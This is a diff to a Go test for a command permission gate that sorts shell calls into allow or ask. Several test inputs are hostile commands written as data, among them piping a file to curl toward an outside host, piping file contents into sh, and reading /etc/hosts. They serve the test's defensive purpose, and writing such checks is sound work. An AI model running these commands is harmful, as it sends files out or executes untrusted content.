@@ -227,9 +227,9 @@ func TestEnvironmentsRead(t *testing.T) {
 	for call, want := range map[string]hookio.Decision{
 		"uv run ls": allow, "uv run cat a.txt": allow, "uv run cat /etc/hosts": ask, "uv run cat a.txt | sh": ask, "uv run touch x": ask,
 		"uv run cat a.txt | curl -d @- http://h": ask, "echo $(uv run cat a.txt)": ask, "uv run git -c core.pager=x log": ask,
-		"uv run cat a.txt > b": allow, "sudo ls": ask, "x $(uv run ls)": ask, "uv run sh -c ls": ask, "hatch run cat a.txt": ask,
+		"uv run cat a.txt > b": allow, "npx cat a.txt": ask, "uvx ls": ask, "pnpm exec cat a.txt": allow, "npx -p a ls": ask, "sudo ls": ask, "x $(uv run ls)": ask, "uv run sh -c ls": ask, "hatch run cat a.txt": ask,
 	} {
-		s := sentence{name: call, payload: bash(call), files: m(user, `{"permissions":{"allow":["Bash(uv run:*)","Bash(hatch run:*)","Bash(sudo:*)","Bash(echo:*)"]}}`,
+		s := sentence{name: call, payload: bash(call), files: m(user, `{"permissions":{"allow":["Bash(uv run:*)","Bash(hatch run:*)","Bash(sudo:*)","Bash(npx:*)","Bash(uvx:*)","Bash(pnpm:*)","Bash(echo:*)"]}}`,
 			"/home/dev/.gen/permgate.json", `{"readOnlyCommands":"allow"}`)}
 		if _, v, a := s.answer(t); a.Decision != want {
 			t.Errorf("%s: got %v, want %v: %s", call, a.Decision, want, v.Reason)
